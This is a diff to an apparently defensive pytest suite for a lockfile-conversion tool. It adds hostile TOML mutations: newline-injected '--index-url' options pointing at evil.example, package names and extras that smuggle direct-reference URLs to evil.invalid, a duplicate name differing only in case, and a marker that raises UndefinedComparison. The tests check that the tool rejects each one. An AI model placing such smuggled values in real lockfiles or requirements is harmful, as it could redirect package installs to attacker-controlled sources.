@@ -151,10 +151,20 @@ HOSTILE = {
         r'\1source = { url = "https://x.example/bar-2.0-py3-none-any.whl\\n--index-url=https://evil.example/simple" }\n'
         r'archive = { url = "https://x.example/bar-2.0.tar.gz\\n--index-url=https://evil.example/simple", hashes = { sha256 = "' + "0" * 64 + '" } }',
         text, 1),
+    # the same, spelled otherwise (the same project by PEP 503)
+    "listed-twice-spelled-otherwise": lambda text: text + re.sub(
+        r'name = "([^"]+)"', lambda m: f'name = "{m[1].upper()}"', text[text.index("[[package"):].split("\n\n")[0], 1) + "\n",
+    # a name or extra read from the TOML becomes the start of a requirement: "x@URL#" a direct reference
+    "name-smuggles-a-url": lambda text: text.replace('name = "bar"', 'name = "other@https://evil.invalid/x.whl#"'),
+    "extra-smuggles-a-url": lambda text: text.replace('extra = ["bar"]', 'extra = ["x]@https://evil.invalid/x.whl#"]'),
+    # packaging raises UndefinedComparison evaluating it (an edge marker; a pylock.toml package marker)
+    "marker-undefined-comparison": lambda text: text.replace("sys_platform == 'win32'", "python_version ~= '3'"),
 }
 
 
-HOSTILE_READ_BY_BOTH = {"hash-injects-an-option", "hash-short", "url-injects-an-option"}
+HOSTILE_READ_BY_BOTH = {"hash-injects-an-option", "hash-short", "url-injects-an-option", "name-smuggles-a-url",
+                        "marker-undefined-comparison", "listed-twice-spelled-otherwise"}  # fmt: skip
+HOSTILE_READ_BY_UV = {"extra-smuggles-a-url"}  # pylock.toml has no extras
 
 
 @pytest.mark.parametrize("fmt", ["uv-lock", "pylock"])
@@ -168,6 +178,7 @@ def test_hostile_toml_locks_are_one_error_line(world: dict, tmp_path: Path, fmt:
     result = run_cli("lock", flag, str(bad), "--index", str(world["index"]), "--out", str(tmp_path / "out.txt"))
     if result.returncode == 0:  # the mutation missed what this format reads: a result, then
         assert mutation not in HOSTILE_READ_BY_BOTH and (fmt, mutation) != ("pylock", "listed-twice")
+        assert fmt != "uv-lock" or mutation not in HOSTILE_READ_BY_UV
         assert (tmp_path / "out.txt").exists()
         return
     assert result.returncode == 1
